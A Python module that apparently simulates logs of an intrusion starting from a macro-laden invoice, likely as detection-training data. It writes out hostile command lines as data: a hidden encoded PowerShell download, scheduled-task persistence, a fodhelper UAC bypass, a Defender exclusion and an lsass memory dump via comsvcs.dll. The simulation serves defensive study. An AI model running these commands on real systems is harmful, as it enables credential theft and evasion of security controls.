"""The invoice scenario: a macro in an invoice, and four hours later the company's finance data has left.

Each method is a step of the story (or two that cannot be told apart in time); invoice_story.py tells them.
"""

from __future__ import annotations

from sample_data.benign_desks import OFFICE_ROOT, PS_AGENT, Desk, Desks
from sample_data.benign_machines import Machines
from sample_data.benign_servers import Servers, encoded, task
from sample_data.benign_services import Services
from sample_data.benign_staff import Staff
from sample_data.domain import (
    CONTROL,
    CRADLE,
    DC,
    DELIVERY,
    POWERSHELL,
    SYSTEM,
    SYSTEM32,
    VICTIM,
    Process,
    Session,
    lsass,
    process,
)
from sample_data.invoice_lateral import Lateral
from sample_data.invoice_story import STORY
from sample_data.network import Network
from sample_data.record import Recorder, Written
from sample_data.story import Story
from sample_data.windows import Windows
from sample_data.world import MILLI, MINUTE, SECOND, Day, Dice

_FOLDER = "C:\\Users\\anna.keller\\AppData\\Roaming\\OneDriveSync"
_BEACON_AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"
_CMDLET_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\SYSTEM32\\dbgcore.dll+6cdb|C:\\Windows\\SYSTEM32\\dbgcore.dll+e0c1|"
    "C:\\Windows\\System32\\comsvcs.dll+f7e2"
)


def invoice(seed: int) -> tuple[Story, Written]:
    day = Day(STORY.date)
    recorder = Recorder(day)

    def part(name: str) -> tuple[Windows, Network, Dice]:
        dice = Dice(seed, f"invoice/{name}")
        return Windows(recorder, dice), Network(recorder, dice, tagged=True, resolver=DC.ip), dice

    desks = Desks(day, *part("desks"))
    desks.run()
    Machines(desks).run()
    Staff(desks).run()
    servers = Servers(day, *part("servers"))
    servers.run()
    Services(servers).run()
    tools = part("attack")
    high = Attack(day, recorder, desks.desks[VICTIM], *tools).run()
    Lateral(day, recorder, *tools).run(high)
    return STORY, recorder.write()


class Attack:
    def __init__(
        self, day: Day, recorder: Recorder, desk: Desk, windows: Windows, network: Network, dice: Dice
    ) -> None:
        self.day, self.step, self.desk = day, recorder.step, desk
        self.windows, self.network, self.dice = windows, network, dice

    def run(self) -> Process:
        """All until there is a shell with full rights, which is returned."""
        word = self.open_invoice()
        shell = self.macro(word)
        self.persist(shell)
        self.beacon()
        self.look_around(shell)
        high = self.elevate(shell)
        self.blind_and_dump(high)
        return high

    def open_invoice(self) -> Process:
        w, day = self.windows, self.day
        path = (
            f"{self.desk.home}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2J8Q1XZ\\"
            "Invoice_2026-0347.docm"
        )
        with self.step("inv-01"):
            w.file(day.at("08:41:03.210"), self.desk.outlook, path)
            program = OFFICE_ROOT + "WINWORD.EXE"
            return w.start(
                day.at("08:41:06.871"),
                self.desk.outlook,
                program,
                f'"{program}" /n "{path}" /o ""',
                directory=self.desk.home,
            )

    def macro(self, word: Process) -> Process:
        w, n, day = self.windows, self.network, self.day
        with self.step("inv-02"):
            shell = w.start(
                day.at("08:42:11.402"),
                word,
                POWERSHELL,
                f"powershell.exe -nop -w hidden -enc {encoded(CRADLE)}",
                directory=self.desk.home,
            )
        with self.step("inv-03"):
            w.script(day.at("08:42:12.377"), shell, CRADLE)
        with self.step("inv-04"):
            start = day.at("08:42:12.611")
            n.lookup(start, shell.host.ip, *DELIVERY)
            w.resolve(start + 60 * MILLI, shell, *DELIVERY)
            port = w.connect(start + 90 * MILLI, shell, DELIVERY[1], 80, DELIVERY[0])
            n.web(
                start + 90 * MILLI,
                shell.host.ip,
                DELIVERY,
                "GET",
                "/a/stage.txt",
                PS_AGENT,
                received=18_412,
                mime="text/plain",
                source_port=port,
            )
            n.alert(
                start + 140 * MILLI,
                (shell.host.ip, port),
                (DELIVERY[1], 80),
                1000101,
                "LOCAL PowerShell user agent fetches script from external host",
                "A Network Trojan was detected",
                1,
                extra={
                    "http": {
                        "hostname": DELIVERY[0],
                        "url": "/a/stage.txt",
                        "http_user_agent": PS_AGENT,
                        "http_method": "GET",
                        "protocol": "HTTP/1.1",
                        "status": 200,
                        "length": 18_412,
                    }
                },
            )
            w.file(start + 2 * SECOND, shell, f"{_FOLDER}\\sync.ps1")
        return shell

    def persist(self, shell: Process) -> None:
        w, day = self.windows, self.day
        run = f"powershell.exe -nop -w hidden -file {_FOLDER}\\sync.ps1"
        with self.step("inv-05"):
            w.registry(
                day.at("08:47:20.118"),
                shell,
                f"HKU\\{VICTIM.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
                run,
            )
        with self.step("inv-06"):
            command = f'"powershell.exe -w hidden -file {_FOLDER}\\sync.ps1"'
            w.start(
                day.at("08:49:02.530"),
                shell,
                SYSTEM32 + "schtasks.exe",
                '"C:\\Windows\\system32\\schtasks.exe" /create /sc minute /mo 30 /tn OneDriveSync /tr '
                f"{command} /f",
            )
            w.by(
                day.at("08:49:02.702"),
                4698,
                shell,
                {
                    "TaskName": "\\OneDriveSync",
                    "TaskContent": task(
                        "powershell.exe",
                        f"-w hidden -file {_FOLDER}\\sync.ps1",
                        "<TimeTrigger><Interval>PT30M</Interval></TimeTrigger>",
                    ),
                },
            )
            for turn in range(1, 8):  # it runs every half hour until the machine is switched off
                time = day.at("08:49:02") + turn * 30 * MINUTE + self.dice.upto(900) * MILLI
                again = w.start(
                    time,
                    self.desk.svchost,
                    POWERSHELL,
                    f"powershell.exe -w hidden -file {_FOLDER}\\sync.ps1",
                    self.desk.session,
                )
                w.stop(time + 20 * SECOND, again)

    def beacon(self) -> None:
        n, dice = self.network, self.dice
        host = self.desk.host.ip
        with self.step("inv-07"):
            time, last = self.day.at("08:52:00"), self.day.at("12:50")
            for turn in range(1000):
                if time > last:
                    break
                if turn % 10 == 0:
                    n.lookup(time - 300 * MILLI, host, *CONTROL)
                port = n.port()
                n.web(
                    time,
                    host,
                    CONTROL,
                    "POST",
                    "/api/v2/sync",
                    _BEACON_AGENT,
                    sent=312 + dice.upto(9),
                    received=48 if dice.chance(0.93) else dice.between(300, 4_000),
                    mime="application/octet-stream",
                    source_port=port,
                )
                if turn % 60 == 59:
                    n.alert(
                        time + SECOND,
                        (host, port),
                        (CONTROL[1], 80),
                        1000102,
                        "LOCAL periodic POST beacon to uncategorised host",
                        "A Network Trojan was detected",
                        1,
                        extra={
                            "http": {
                                "hostname": CONTROL[0],
                                "url": "/api/v2/sync",
                                "http_user_agent": _BEACON_AGENT,
                                "http_method": "POST",
                                "protocol": "HTTP/1.1",
                                "status": 200,
                                "length": 48,
                            }
                        },
                    )
                time += MINUTE + dice.between(-5_000, 5_000) * MILLI

    def look_around(self, shell: Process) -> None:
        w, time = self.windows, self.day.at("09:05:11.040")
        with self.step("inv-08"):
            for name, command in (
                ("whoami.exe", "whoami /all"),
                ("systeminfo.exe", "systeminfo"),
                ("net.exe", 'net group "Domain Admins" /domain'),
                ("net1.exe", 'net1 group "Domain Admins" /domain'),
                ("nltest.exe", "nltest /dclist:alderbrook.example"),
                ("nltest.exe", "nltest /domain_trusts /all_trusts"),
                ("net.exe", "net view /domain:ALDERBROOK"),
                ("net.exe", 'net group "Domain Computers" /domain'),
            ):
                w.start(
                    time,
                    shell,
                    SYSTEM32 + name,
                    f'"{SYSTEM32.lower()}{name}" {command.partition(" ")[2]}'.strip(),
                )
                time += self.dice.between(7_000, 18_000) * MILLI

    def elevate(self, shell: Process) -> Process:
        w, day = self.windows, self.day
        high = Session(self.desk.session.account, self.desk.session.sid, "0x2f81aa", "1", "High")
        with self.step("inv-09"):
            key = f"HKU\\{VICTIM.sid}_Classes\\ms-settings\\Shell\\Open\\command\\"
            w.registry(day.at("09:14:01.310"), shell, key + "DelegateExecute", "(Empty)")
            w.registry(day.at("09:14:01.394"), shell, key + "(Default)", f"{POWERSHELL} -nop -w hidden")
            helper = w.start(
                day.at("09:14:03.020"),
                shell,
                SYSTEM32 + "fodhelper.exe",
                '"C:\\Windows\\System32\\fodhelper.exe"',
                high,
            )
            return w.start(day.at("09:14:03.655"), helper, POWERSHELL, f'"{POWERSHELL}" -nop -w hidden', high)

    def blind_and_dump(self, high: Process) -> None:
        w, day = self.windows, self.day
        with self.step("inv-10"):
            w.script(day.at("09:20:15.222"), high, "Add-MpPreference -ExclusionPath C:\\Users\\Public")
            defender = process(
                self.dice,
                high.host,
                "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe",
                SYSTEM,
                day.start,
            )
            w.registry(
                day.at("09:20:15.870"),
                defender,
                "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public",
                "DWORD (0x00000000)",
            )
        with self.step("inv-11"):
            target = lsass(self.dice, high.host, day)
            dump = "C:\\Users\\Public\\Documents\\dbg.dmp"
            tool = w.start(
                day.at("09:34:40.005"),
                high,
                SYSTEM32 + "rundll32.exe",
                '"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump '
                f"{target.pid} {dump} full",
            )
            w.access(day.at("09:34:40.190"), tool, target, "0x1fffff", _CMDLET_TRACE)
            w.file(day.at("09:34:40.412"), tool, dump)
